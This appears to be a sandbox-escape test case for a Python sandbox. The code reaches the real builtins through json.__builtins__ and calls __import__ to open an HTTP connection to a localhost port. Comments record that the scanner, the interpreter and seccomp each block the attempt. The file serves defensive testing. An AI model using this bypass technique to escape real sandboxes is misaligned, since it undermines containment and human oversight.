# escape: HTTP request with http.client via the real __import__
# scanned: scan_rejected
# unscanned: sandbox_violation @ interpreter ~ refused `import`
# kernel: sandbox_violation @ seccomp ~ `epoll_create1`
# evidence: no_connection

def real_builtins():
    import json
    b = json.__builtins__
    return b if isinstance(b, dict) else b.__dict__
def attack():
    h = real_builtins()['__import__']('http.client', fromlist=['x'])
    h.HTTPConnection('127.0.0.1', 47811).request('GET', '/')
